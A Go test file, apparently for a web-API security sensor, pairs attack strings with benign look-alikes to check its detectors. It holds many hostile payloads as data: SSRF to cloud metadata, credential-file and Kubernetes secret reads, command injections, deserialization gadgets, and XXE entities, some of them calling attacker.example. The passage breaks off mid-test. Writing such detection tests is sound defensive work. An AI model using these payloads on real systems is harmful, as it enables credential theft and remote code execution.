package tier1

import (
	"slices"
	"strings"
	"testing"

	"github.com/apisensor/sensor/decoders"
	"github.com/apisensor/sensor/pipeline/detect"
)

// utf16le spells s in UTF-16LE (ASCII and the byte order mark only).
func utf16le(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteByte(byte(r))
		b.WriteByte(byte(r >> 8))
	}
	return b.String()
}

// What an attacker reads or runs on a Kubernetes node or in a container,
// where the sensor runs as a DaemonSet: the files that hold the cluster's
// and the cloud account's credentials, the container runtimes' sockets,
// the cluster tools, and the probes scanners send for PHP's string
// interpolation; and the values near them that are no attack.
func init() {
	attacks = append(attacks,
		// Steps and slashes in look-alike characters that Windows'
		// best-fit conversion and Unicode-normalizing servers fold.
		attackEntry{lQ, "file", "．．／．．／．．／etc／passwd", "path-traversal", encAll},
		attackEntry{lJ, "file", "..∕..∕..∕etc∕passwd", "path-traversal", 0},
		attackEntry{lQ, "file", "..＼..＼..＼windows＼win.ini", "path-traversal", encURL},
		// Metadata through wildcard and rebinding DNS names, and the
		// credentials endpoints of EKS Pod Identity, GCP over IPv6 and
		// Azure's WireServer.
		attackEntry{lQ, "url", "http://169-254-169-254.nip.io/latest/meta-data/", "ssrf-metadata", encAll},
		attackEntry{lJ, "webhook", "http://a9fea9fe.nip.io/latest/meta-data/", "ssrf-metadata", 0},
		attackEntry{lJ, "webhook", "http://app-169-254-169-254.sslip.io/", "ssrf-metadata", 0},
		// sslip.io's IPv6 names: dashes for colons.
		attackEntry{lQ, "url", "http://--1.sslip.io/admin", "ssrf-loopback", encURL},
		attackEntry{lJ, "url", "http://fd00-ec2--254.sslip.io/latest/meta-data/", "ssrf-metadata", 0},
		attackEntry{lJ, "url", "http://www-fe80--1.sslip.io/", "ssrf-link-local", 0},
		attackEntry{lQ, "url", "http://7f000001.a9fea9fe.rbndr.us/", "ssrf-metadata", encURL},
		attackEntry{lQ, "url", "http://make-169.254.169.254-rebind-127.0.0.1-rr.1u.ms/", "ssrf-metadata", encURL},
		attackEntry{lJ, "url", "http://[fd00:ec2::23]/v1/credentials", "ssrf-metadata", 0},
		attackEntry{lJ, "url", "http://[fd20:ce::254]/computeMetadata/v1/", "ssrf-metadata", 0},
		attackEntry{lQ, "url", "http://168.63.129.16/machine?comp=goalstate", "ssrf-metadata", encURL},
		// Secrets of Windows setup, Tomcat, Kerberos, Jenkins, GitLab.
		attackEntry{lQ, "file", "C:\\Windows\\Panther\\Unattend.xml", "lfi-sensitive-file", encURL},
		attackEntry{lJ, "file", "/opt/tomcat/conf/tomcat-users.xml", "lfi-sensitive-file", 0},
		attackEntry{lQ, "file", "/etc/krb5.keytab", "lfi-sensitive-file", encURL},
		attackEntry{lQ, "file", "/var/lib/jenkins/secrets/master.key", "lfi-sensitive-file", encURL},
		// Kubeconfigs, keys and tokens of the control plane, the kubelet,
		// k3s and RKE2; etcd's data.
		attackEntry{lQ, "file", "/etc/kubernetes/admin.conf", "lfi-sensitive-file", encAll},
		attackEntry{lJ, "path", "/etc/kubernetes/kubelet.conf", "lfi-sensitive-file", encURL},
		attackEntry{lQ, "template", "/etc/kubernetes/pki/ca.key", "lfi-sensitive-file", encURL},
		attackEntry{lQ, "f", "/etc/kubernetes/manifests/kube-apiserver.yaml", "lfi-sensitive-file", 0},
		attackEntry{lJ, "doc", "/var/lib/kubelet/kubeconfig", "lfi-sensitive-file", encURL},
		attackEntry{lQ, "f", "/var/lib/kubelet/pki/kubelet-client-current.pem", "lfi-sensitive-file", encAll},
		attackEntry{lC, "view", "/etc/rancher/k3s/k3s.yaml", "lfi-sensitive-file", encURL},
		attackEntry{lQ, "f", "/var/lib/rancher/k3s/server/token", "lfi-sensitive-file", encURL},
		attackEntry{lJ, "backup", "/var/lib/etcd/member/snap/db", "lfi-sensitive-file", 0},
		// Secrets mounted into containers.
		attackEntry{lQ, "f", "/run/secrets/db_password", "lfi-sensitive-file", encAll},
		attackEntry{lJ, "path", "/run/secrets/kubernetes.io/serviceaccount/token", "lfi-sensitive-file", 0},
		// The container runtimes' sockets, as a path or in a URL.
		attackEntry{lQ, "socket", "/var/run/docker.sock", "ssrf-runtime-socket", encAll},
		attackEntry{lQ, "socket", "//var/run/./docker.sock", "ssrf-runtime-socket", encURL},
		attackEntry{lJ, "endpoint", "/tmp/../var/run/docker.sock", "ssrf-runtime-socket", 0},
		attackEntry{lJ, "url", `"/VAR/RUN/DOCKER.SOCK"`, "ssrf-runtime-socket", 0},
		attackEntry{lJ, "url", "unix:///var/snap/microk8s/common/run/containerd.sock", "ssrf-runtime-socket", 0},
		attackEntry{lJ, "url", "unix:///run/containerd/containerd.sock.ttrpc", "ssrf-runtime-socket", 0},
		attackEntry{lJ, "endpoint", "unix:///run/containerd/containerd.sock", "ssrf-runtime-socket", encURL},
		attackEntry{lQ, "url", "http://unix:/var/run/docker.sock:/containers/json", "ssrf-runtime-socket", encURL},
		attackEntry{lJ, "url", "http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/json", "ssrf-runtime-socket", 0},
		attackEntry{lJ, "sock", "/var/run/crio/crio.sock", "ssrf-runtime-socket", 0},
		attackEntry{lJ, "dockerSocket", "/var/run/cri-dockerd.sock", "ssrf-runtime-socket", 0},
		attackEntry{lJ, "docker_host", "unix:///run/user/1000/podman/podman.sock", "ssrf-runtime-socket", 0},
		attackEntry{lQ, "host", "npipe:////./pipe/docker_engine", "ssrf-runtime-socket", encURL},
		// Paths written with repeated slashes, and a thread's own /proc.
		attackEntry{lQ, "f", "/proc/self//environ", "lfi-sensitive-file", encURL},
		attackEntry{lJ, "f", "/var/run//secrets/kubernetes.io/serviceaccount/token", "lfi-sensitive-file", 0},
		attackEntry{lQ, "f", "/proc/thread-self/environ", "lfi-sensitive-file", encURL},
		attackEntry{lH, "referer", "http://127.0.0.1:8080/api/v1/files//etc/shadow", "lfi-sensitive-file", 0},
		attackEntry{lQ, "f", "/var/lib/rancher/k3s/agent/kubelet.kubeconfig", "lfi-sensitive-file", encURL},
		// A command reading a file, with words after it.
		attackEntry{lQ, "name", "fold /etc/shadow and some words", "lfi-sensitive-file", encURL},
		// Process state that tells a container from its host.
		attackEntry{lQ, "f", "/proc/self/mounts", "lfi-sensitive-file", encAll},
		attackEntry{lQ, "f", "/proc/1/cgroup", "lfi-sensitive-file", encURL},
		attackEntry{lJ, "include", "/proc/self/cwd/config/database.yml", "lfi-sensitive-file", 0},
		// A command line that reads one, and goes on.
		attackEntry{lQ, "host", "cat /etc/kubernetes/admin.conf | base64", "lfi-sensitive-file", encURL},
		attackEntry{lJ, "cmd", "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/t", "lfi-sensitive-file", 0},
		// The gcloud and Azure CLIs' credentials.
		attackEntry{lQ, "f", "/root/.config/gcloud/credentials.db", "lfi-sensitive-file", encAll},
		attackEntry{lJ, "path", "~/.config/gcloud/application_default_credentials.json", "lfi-sensitive-file", 0},
		attackEntry{lQ, "f", "/home/app/.azure/accessTokens.json", "lfi-sensitive-file", encURL},
		attackEntry{lJ, "path", ".azure/msal_token_cache.json", "lfi-sensitive-file", 0},

		// Cluster tools after a separator, and a command spelled by printf.
		attackEntry{lQ, "host", ";kubectl get secrets -A", "cmdi", encAll},
		attackEntry{lJ, "name", "x; crictl ps", "cmdi", encURL},
		attackEntry{lQ, "host", "127.0.0.1;nsenter -t 1 -m -u -i -n sh", "cmdi", encURL},
		attackEntry{lJ, "ip", "1.2.3.4 && etcdctl get / --prefix --keys-only", "cmdi", 0},
		attackEntry{lQ, "host", ";/usr/local/bin/kubectl get secrets -A", "cmdi", encURL},
		attackEntry{lQ, "host", ";k3s kubectl get secrets -A", "cmdi", encURL},
		// Substituted or piped into, glued to the value.
		attackEntry{lQ, "host", "$(kubectl get secrets -A)", "cmdi", encAll},
		attackEntry{lJ, "name", "test$(crictl ps)", "cmdi", encURL},
		attackEntry{lQ, "name", "x`kubectl get secrets`", "cmdi", encURL},
		attackEntry{lQ, "host", "a|kubectl get secrets -A", "cmdi", encURL},
		attackEntry{lJ, "name", "x;nerdctl run --privileged -v /:/host alpine", "cmdi", 0},
		attackEntry{lQ, "q", "$(printf '\\x69\\x64')", "cmdi", encAll},
		attackEntry{lJ, "name", "a`printf '\\151\\144'`", "cmdi", 0},

		// PHP evaluates a call inside "${…}" when it interpolates a string.
		attackEntry{lQ, "q", "${@print(md5(31337))}", "php-injection", encAll},
		attackEntry{lJ, "title", "{${phpinfo()}}", "php-injection", encURL},
		attackEntry{lQ, "name", "${system('id')}", "php-injection", encURL},
	)
	benign = append(benign,
		// Documentation and support text that names these files.
		corpusEntry{lJ, "message", "Mount /var/run/docker.sock into the CI container to build images"},
		corpusEntry{lJ, "body", "the kubeconfig is in /etc/kubernetes/admin.conf on the control plane"},
		corpusEntry{lQ, "q", "where does k3s keep /etc/rancher/k3s/k3s.yaml"},
		corpusEntry{lJ, "message", "Then copy the file /etc/kubernetes/pki/ca.key to the new control plane node."},
		corpusEntry{lJ, "volumes", "/var/run/docker.sock:/var/run/docker.sock"},
		corpusEntry{lJ, "env", "DOCKER_HOST=unix:///var/run/docker.sock"},
		corpusEntry{lJ, "spec.volumes[0].hostPath.path", "/var/run/docker.sock"},
		corpusEntry{lJ, "spec.containers[0].volumeMounts[0].mountPath", "/var/run/docker.sock"},
		corpusEntry{lQ, "q", "Is /var/run/docker.sock exposed?"},
		corpusEntry{lJ, "message", "Mount /var/run/docker.sock read-only"},
		corpusEntry{lJ, "note", "Read the secret from the file mounted at /run/secrets/db_password"},
		corpusEntry{lQ, "q", "docker secrets"},
		corpusEntry{lJ, "path", "/run/user/1000/app.log"},
		corpusEntry{lJ, "path", "/var/run/app/app.pid"},
		corpusEntry{lQ, "q", "kubectl get pods"},
		corpusEntry{lJ, "message", "Run kubectl get secrets -n prod to list them"},
		corpusEntry{lJ, "file", "backend/.env.example"},
		corpusEntry{lJ, "url", "https://myapp-203-0-113-5.nip.io/"},
		corpusEntry{lJ, "url", "https://2a01-4f8-c17-b8f--2.sslip.io/"},
		corpusEntry{lJ, "url", "https://my-app-server-prod-us-east-1-a.sslip.io/"},
		corpusEntry{lJ, "url", "https://deadbeef.example.com/"},
		corpusEntry{lQ, "path", "config/.env.sample"},
		corpusEntry{lJ, "note", "１／２ cup of sugar"},
		corpusEntry{lJ, "message", "Run `kubectl get pods` to list them"},
		corpusEntry{lJ, "message", "Use $(kubectl get pods -o name) in scripts"},
		corpusEntry{lJ, "script", "PODS=$(kubectl get pods -o name)"},
		corpusEntry{lJ, "doc", "| kubectl | 1.29 |"},
		corpusEntry{lJ, "doc", "|kubectl|1.29|"},
		corpusEntry{lJ, "doc", "cat pod.yaml | kubectl apply -f -"},
		corpusEntry{lQ, "q", "kubectl `get pods`"},
		corpusEntry{lJ, "question", "`kubectl get pods -n kube-system -o wide`"},
		corpusEntry{lJ, "message", "Deploy done; kubectl rollout status ok"},
		corpusEntry{lJ, "code", "printf -v x \"%04x\" i;"},
		corpusEntry{lJ, "message", "use printf; printf is safer than echo"},
		// JavaScript template literals call functions.
		corpusEntry{lJ, "code", "const s = `Hello ${user.name()}, you have ${count(items)} items`;"},
		corpusEntry{lJ, "code", "`${print(x)}`"},
		corpusEntry{lJ, "code", "const url = `https://www.gravatar.com/avatar/${md5(email)}`;"},
		corpusEntry{lJ, "code", "`${require('path').join(dir, name)}`"},
		corpusEntry{lJ, "template", "${firstName} ${lastName}"},
	)
}

// Deserialization gadgets: type tags and gadget classes that make a YAML,
// JSON, XAML or XStream deserializer build objects the sender chose; and
// the type tags and names of ordinary documents.
func init() {
	attacks = append(attacks,
		attackEntry{lJ, "config", "!!python/object/apply:os.system [\"id\"]", "deserialization-gadget", encURL},
		attackEntry{lQ, "yaml", "!!python/object/new:subprocess.check_output [[\"id\"]]", "deserialization-gadget", encAll},
		attackEntry{lJ, "spec", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]", "deserialization-gadget", 0},
		attackEntry{lJ, "doc", "--- !ruby/object:Gem::Installer\ni: x", "deserialization-gadget", encURL},
		attackEntry{lJ, "data", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList","$values":["cmd","/c calc"]}}`, "deserialization-gadget", encURL},
		attackEntry{lJ, "obj", `{"$type": "System.Diagnostics.Process, System"}`, "deserialization-gadget", 0},
		attackEntry{lQ, "xaml", `<ObjectDataProvider MethodName="Start" ObjectType="{x:Type Diag:Process}">`, "deserialization-gadget", encURL},
		attackEntry{lJ, "xml", `<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>`, "deserialization-gadget", encURL},
		attackEntry{lQ, "xml", `<java.util.PriorityQueue serialization='custom'><unserializable-parents/></java.util.PriorityQueue>`, "deserialization-gadget", encURL},
		attackEntry{lJ, "xml", `<map><entry><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder></entry></map>`, "deserialization-gadget", 0},
		attackEntry{lQ, "xml", "<sorted-set><dynamic-proxy ><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>", "deserialization-gadget", encURL},
		attackEntry{lJ, "xaml", `<ObjectDataProvider x:Key="a" ObjectType="{x:Type d:Process}"><ObjectDataProvider.MethodName>Start</ObjectDataProvider.MethodName></ObjectDataProvider>`, "deserialization-gadget", 0},
		attackEntry{lJ, "yaml", `!<tag:yaml.org,2002:python/object/apply:os.system> ["id"]`, "deserialization-gadget", encURL},
		attackEntry{lJ, "yaml", "%TAG !p! tag:yaml.org,2002:python/object/apply:\n--- !p!os.system [\"id\"]", "deserialization-gadget", 0},
		attackEntry{lJ, "data", `{"$type":"Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor"}`, "deserialization-gadget", 0},
		// The same documents sent as a body, which the decoders take
		// apart: the names say it.
		attackEntry{lJ, "$type", "System.Windows.Data.ObjectDataProvider, PresentationFramework", "deserialization-gadget", 0},
		attackEntry{lJ, "order.items[0].$type", "System.Diagnostics.Process, System", "deserialization-gadget", 0},
		attackEntry{lJ, "$type", "System.Collections.Generic.List`1[[System.Windows.Data.ObjectDataProvider, PresentationFramework]], mscorlib", "deserialization-gadget", 0},
		attackEntry{lJ, "data", "{\"$type\":\"System.Collections.Generic.List`1[[System.Windows.Data.ObjectDataProvider, PresentationFramework]], mscorlib\"}", "deserialization-gadget", 0},
		attackEntry{lX, "/ResourceDictionary/w:ObjectDataProvider/@w:MethodName", "Start", "deserialization-gadget", 0},
		attackEntry{lJ, "yaml", "%TAG !x! tag:yaml.org,2002:\n--- !x!python/object/apply:os.system [\"id\"]", "deserialization-gadget", 0},
		attackEntry{lJ, "yaml", "%TAG !! tag:yaml.org,2002:python/\n--- !!object/apply:os.system [\"id\"]", "deserialization-gadget", 0},
		attackEntry{lQ, "xml", "<jdk.nashorn.internal.objects.NativeString serialization='custom'/>", "deserialization-gadget", encURL},
		attackEntry{lX, "/sorted-set/dynamic-proxy/interface", "java.lang.Comparable", "deserialization-gadget", 0},
		attackEntry{lX, "/map/entry/java.lang.ProcessBuilder/command/string", "id", "deserialization-gadget", 0},
		attackEntry{lX, "/java.util.PriorityQueue/@serialization", "custom", "deserialization-gadget", 0},
		attackEntry{lX, "/ResourceDictionary/ObjectDataProvider/@MethodName", "Start", "deserialization-gadget", 0},
		attackEntry{lX, "/ResourceDictionary/ObjectDataProvider/ObjectDataProvider.MethodName", "Start", "deserialization-gadget", 0},
	)
	benign = append(benign,
		corpusEntry{lJ, "yaml", "photo: !!binary R0lGODlhDAAMAIQAAP"},
		corpusEntry{lJ, "yaml", "version: !!str 1.10"},
		corpusEntry{lJ, "message", "Wow!! python/django is great"},
		corpusEntry{lJ, "data", `{"$type":"MyShop.Models.Order, MyShop","id":42}`},
		corpusEntry{lJ, "ld", `{"@context":"https://schema.org","@type":"Product","name":"Lamp"}`},
		corpusEntry{lJ, "message", "Use XStream's allow list; never deserialize untrusted XML."},
		corpusEntry{lJ, "note", "Serialization format changed in v2"},
		corpusEntry{lJ, "$type", "MyShop.Models.Order, MyShop"},
		corpusEntry{lJ, "items[0].$type", "Product"},
		corpusEntry{lX, "/config/@serialization", "json"},
		corpusEntry{lJ, "$type", "System.Security.Claims.ClaimsPrincipal, System.Security.Claims"},
		corpusEntry{lX, "/Window.Resources/ObjectDataProvider/@MethodName", "GetValues"},
		corpusEntry{lJ, "xaml", `<ObjectDataProvider x:Key="colors" MethodName="GetValues" ObjectType="{x:Type sys:Enum}">`},
		corpusEntry{lJ, "xml", `<com.example.Settings serialization="custom"/>`},
		corpusEntry{lJ, "yaml", "%TAG !e! tag:example.com,2000:app/\n--- !e!foo bar"},
		corpusEntry{lX, "/docs/objectDataProvider/title", "Binding to methods"},
		corpusEntry{lJ, "code", "`Exit code: ${exec(cmd).status}`"},
	)
}

// Template engines reached by name (Twig's filters, JSP EL's implicit
// objects) and Apache Commons Text's lookups (Text4Shell); and the
// placeholders that look like them.
func init() {
	attacks = append(attacks,
		attackEntry{lQ, "name", "{{['id']|filter('system')}}", "ssti", encAll},
		attackEntry{lJ, "title", "{{['cat /etc/passwd']|map('passthru')|join}}", "ssti", 0},
		attackEntry{lQ, "q", `{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`, "ssti", encURL},
		attackEntry{lQ, "q", "${applicationScope.getAttribute('x').getClass()}", "ssti", encAll},
		attackEntry{lJ, "name", `${pageContext.request.getSession().setAttribute("admin",true)}`, "ssti", 0},
		attackEntry{lQ, "q", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "commons-text-lookup", encAll},
		attackEntry{lJ, "text", "${url:UTF-8:http://attacker.example/x}", "commons-text-lookup", encURL},
		attackEntry{lQ, "q", "${file:utf-8:/etc/passwd}", "commons-text-lookup", encURL},
		attackEntry{lH, "user-agent", "${dns:address|attacker.example}", "commons-text-lookup", 0},
		attackEntry{lQ, "q", "${${lower:d}ns:address|attacker.example}", "commons-text-lookup", encURL},
		attackEntry{lQ, "q", "${url:ISO_8859_1:http://attacker.example/x}", "commons-text-lookup", encURL},
		attackEntry{lJ, "text", "${url:GBK:https://attacker.example/x}", "commons-text-lookup", 0},
		attackEntry{lJ, "text", "${url:UTF-32BE:http://attacker.example/x}", "commons-text-lookup", 0},
		attackEntry{lQ, "q", "${xml:/etc/app/config.xml:/a}", "commons-text-lookup", encURL},
		attackEntry{lJ, "name", "{{['id']|filter('sys'~'tem')}}", "ssti", 0},
		attackEntry{lJ, "name", "{% set f='system' %}{{['id']|filter(f)}}", "ssti", 0},
		attackEntry{lQ, "name", "{{['id']|filter(('system'))}}", "ssti", encURL},
		attackEntry{lQ, "name", "{{['id']|find('system')}}", "ssti", encURL},
		attackEntry{lQ, "q", "${(pageContext.request.getSession()).setAttribute('a',1)}", "ssti", encURL},
		attackEntry{lQ, "q", "${true ? pageContext.request.getSession().invalidate() : 1}", "ssti", encURL},
		attackEntry{lQ, "q", "${script:graal.js:java.lang.Runtime.getRuntime().exec('id')}", "commons-text-lookup", encURL},
		attackEntry{lJ, "q", "${properties:C:/app/db.properties::password}", "commons-text-lookup", 0},
		attackEntry{lJ, "q", "${xml:/opt/my app/config.xml:/a}", "commons-text-lookup", 0},
		attackEntry{lQ, "q", "{${print(md5(31337))}}", "php-injection", encURL},
		attackEntry{lQ, "q", "${var_dump(1)}x{${print_r(1)}}", "php-injection", encURL},
		attackEntry{lQ, "q", "{{['/etc/passwd']|filter('readfile')}}", "ssti", encURL},
	)
	benign = append(benign,
		corpusEntry{lJ, "template", "{{ items|filter(i => i.active) }}"},
		corpusEntry{lJ, "template", "{{ name|sort('asc') }}"},
		corpusEntry{lJ, "template", "${sessionScope.user.name}"},
		corpusEntry{lJ, "template", `<link href="${pageContext.request.contextPath}/css/app.css">`},
		corpusEntry{lJ, "template", "${applicationScope}"},
		corpusEntry{lJ, "template", `<c:if test="${pageContext.request.isUserInRole('ADMIN')}">`},
		corpusEntry{lJ, "template", "${requestScope.items.size()}"},
		corpusEntry{lJ, "template", "${sessionScope.cart.getTotal()}"},
		corpusEntry{lJ, "template", "${pageContext.request.getParameter('q')}"},
		corpusEntry{lJ, "config", "${xml:classpath:beans.xml}"},
		corpusEntry{lJ, "config", "${file:classpath:data.json}"},
		corpusEntry{lJ, "config", "${file.path:/var/app}"},
		corpusEntry{lJ, "config", "${xml.enabled:true}"},
		corpusEntry{lJ, "config", "${url:https://api.example.com/v2}"},
		corpusEntry{lJ, "config", "${dns:cache.internal}"},
		corpusEntry{lJ, "config", "${file:app.yml}"},
		corpusEntry{lJ, "message", "The script: javascript: URLs are blocked"},
	)
}

// TestDeserializationBodies sends gadget documents as request bodies,
// which the decoders take apart into parameters (JSON keys, XML paths):
// the gadget must be found from them.
func TestDeserializationBodies(t *testing.T) {
	ds := allDetectors(t)
	for _, c := range []struct{ ct, body string }{
		{"application/json", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}`},
		{"application/xml", `<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="a" ObjectType="{x:Type Diag:Process}" MethodName="Start"></ObjectDataProvider></ResourceDictionary>`},
		{"application/xml", `<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>`},
		{"application/xml", `<java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int></java.util.PriorityQueue></java.util.PriorityQueue>`},
	} {
		if got := postRules(ds, "/api/v1/import", c.ct, c.body); !slices.Contains(got, "deserialization-gadget") {
			t.Errorf("%s %.60s…: %v, want deserialization-gadget", c.ct, c.body, got)
		}
	}
}

// TestXMLBodies sends XML request bodies with an external DTD or
// entities nested as in a "billion laughs", and the document types that
// configuration and office files name, which are no attack.
func TestXMLBodies(t *testing.T) {
	ds := allDetectors(t)
	laughs := `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>`
	for _, c := range []struct{ body, want string }{
		{`<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r>1</r>`, "xxe-external-entity"},
		{`<!DOCTYPE r PUBLIC "-//A//B//EN" "https://attacker.example:8443/x.dtd"><r>1</r>`, "xxe-external-entity"},
		{`<!DOCTYPE r SYSTEM "file:///etc/passwd"><r>1</r>`, "xxe-external-entity"},
		{`<!DOCTYPE r SYSTEM "jar:http://attacker.example/a.jar!/x.dtd"><r/>`, "xxe-external-entity"},
		{`<!DOCTYPE r SYSTEM "/usr/share/yelp/dtd/docbookx.dtd"><r/>`, "xxe-external-entity"},
		{`<!DOCTYPE r SYSTEM "http://attacker.example\.w3.org/x.dtd"><r/>`, "xxe-external-entity"},
		{laughs, "xml-entity-expansion"},
		{`<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>`, ""},
		{`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body><p>hi</p></body></html>`, ""},
		{`<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd"><mapper namespace="a"/>`, ""},
		{`<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd"><log4j:configuration/>`, ""},
		{`<!DOCTYPE note [<!ENTITY co "Example Corp"><!ENTITY sig "&co; team">]><note>&sig;</note>`, ""},
		// XInclude in a parsed body (the decoder splits the include
		// element's attributes), a UNC DTD (an NTLM hash to the host),
		// laughs three wide, one long entity referred to thousands of
		// times.
		{`<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="http://oast.example/x"/></foo>`, "xxe-external-entity"},
		{`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/app/config/application.yml" parse="text"/></soap:Body></soap:Envelope>`, "xxe-external-entity"},
		{`<!DOCTYPE foo SYSTEM "\\oast.example\share\x.dtd"><foo/>`, "xxe-external-entity"},
		{`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><d>&c;&c;&c;</d>`, "xml-entity-expansion"},
		// Entity names are case-sensitive: decoys B and C do not hide b
		// and c.
		{`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "xx"><!ENTITY B "x"><!ENTITY b "&a;&a;&a;"><!ENTITY C "y"><!ENTITY c "&b;&b;&b;">]><d>&c;</d>`, "xml-entity-expansion"},
		// XInclude in a UTF-16 body, as Jackson and .NET read one.
		{utf16le("\ufeff" + `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="http://oast.example/x"/></foo>`), "xxe-external-entity"},
		{`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "` + strings.Repeat("A", 12000) + `">]><d>` + strings.Repeat("&a;", 200) + `</d>`, "xml-entity-expansion"},
		// What office, commerce and graphics tools send: cXML punch-out,
		// XSLT's HTML5 document type, Illustrator's namespace entities,
		// XHTML's character entities, a legal line of three entities.
		{`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML payloadID="1@x"><Header/></cXML>`, ""},
		{`<!DOCTYPE html SYSTEM "about:legacy-compat"><html><body/></html>`, ""},
		{`<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/"><!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
	<!ENTITY ns_graphs "http://ns.adobe.com/Graphs/1.0/"><!ENTITY ns_vars "http://ns.adobe.com/Variables/1.0/">
	<!ENTITY ns_imrep "http://ns.adobe.com/ImageReplacement/1.0/"><!ENTITY ns_sfw "http://ns.adobe.com/SaveForWeb/1.0/">
	<!ENTITY ns_custom "http://ns.adobe.com/GenericCustomNamespace/1.0/"><!ENTITY ns_adobe_xpath "http://ns.adobe.com/XPath/1.0/">
]><svg xmlns:x="&ns_extend;" xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`, ""},
		{`<?xml version="1.0"?><!DOCTYPE html [<!ENTITY nbsp "&#160;"><!ENTITY copy "&#169;"><!ENTITY mdash "&#8212;"><!ENTITY ndash "&#8211;"><!ENTITY hellip "&#8230;"><!ENTITY lsquo "&#8216;"><!ENTITY rsquo "&#8217;"><!ENTITY ldquo "&#8220;"><!ENTITY rdquo "&#8221;">]><html><p>a&nbsp;b</p></html>`, ""},
		{`<?xml version="1.0"?><!DOCTYPE book [<!ENTITY company "Acme"><!ENTITY year "2024"><!ENTITY legal "&#169; &year; &company; &amp; affiliates">]><book><para>&legal;</para></book>`, ""},
	} {
		got := postRules(ds, "/api/v1/import", "application/xml", c.body)
		if c.want == "" && len(got) > 0 || c.want != "" && !slices.Contains(got, c.want) {
			t.Errorf("%.70s…: %v, want %q", c.body, got, c.want)
		}
	}
}

// TestUploadedDocuments sends documents as multipart file uploads, which
// the server parses: an SVG or XML with an external entity, a JSON import
// with a gadget; an ordinary SVG raises nothing.
func TestUploadedDocuments(t *testing.T) {
	ds, _ := mergedAndApart(t) // the injection detector too
	part := func(file, ct, content string) string {
		return "--U\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + file + "\"\r\nContent-Type: " + ct + "\r\n\r\n" + content + "\r\n--U--\r\n"
	}
	for _, c := range []struct{ body, want string }{
		{part("avatar.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`), "xxe-external-entity"},
		{part("import.xml", "application/octet-stream", `<!DOCTYPE r [<!ENTITY % e SYSTEM "http://attacker.example/x.dtd"> %e;]><r/>`), "xxe-external-entity"},
		{part("import.json", "application/json", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}`), "deserialization-gadget"},
		// Past a field's length, after a byte order mark, in UTF-16, named
		// as an image, typed x-json.
		{part("import.json", "application/json", `{"pad":"`+strings.Repeat("x", 9000)+`","$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`), "deserialization-gadget"},
		{part("import.json", "application/json", "\ufeff"+`{"$type":"System.Diagnostics.Process, System"}`), "deserialization-gadget"},
		{part("import.json", "application/json", `/* x */ {'$type':'System.Diagnostics.Process, System'}`), "deserialization-gadget"},
